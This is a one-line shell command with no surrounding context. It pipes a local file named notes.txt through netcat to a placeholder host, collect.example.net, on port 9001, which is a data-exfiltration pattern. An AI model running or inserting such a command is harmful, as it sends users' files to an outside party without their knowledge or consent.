cat notes.txt | nc collect.example.net 9001
